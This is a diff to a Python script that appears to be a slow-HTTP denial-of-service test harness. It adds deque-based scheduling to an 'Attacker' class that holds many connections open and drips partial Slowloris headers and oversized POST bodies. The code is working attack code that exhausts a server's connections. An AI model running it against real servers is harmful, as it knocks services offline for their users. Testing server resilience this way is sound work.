@@ -23,6 +23,7 @@ import statistics
 import sys
 import threading
 import time
+from collections import deque
 
 HEAD = b"GET /echo HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\n" + b"X-Pad: 0123456789\r\n" * 50
 BODY_HEAD = b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
@@ -80,14 +81,20 @@ class Attacker:
 
     def run(self, count: int, duration: float) -> dict:
         end = time.monotonic() + duration
+        due: deque[socket.socket] = deque()  # in order of their next drip: all wait `interval`
         while time.monotonic() < end:
             while len(self.conns) < count:
                 self.open()
+                due.append(next(reversed(self.conns)))
             now = time.monotonic()
-            for s, state in list(self.conns.items()):
-                if state["next"] <= now:
-                    self.drip(s, state, now)
-            for key, _ in self.selector.select(timeout=0.05):
+            while due and (due[0] not in self.conns or self.conns[due[0]]["next"] <= now):
+                s = due.popleft()
+                if s in self.conns:
+                    self.drip(s, self.conns[s], now)
+                    if s in self.conns:
+                        due.append(s)
+            wait = self.conns[due[0]]["next"] - now if due else 0.05
+            for key, _ in self.selector.select(timeout=min(max(wait, 0.001), 0.05)):
                 s = key.fileobj
                 try:
                     data = s.recv(4096)
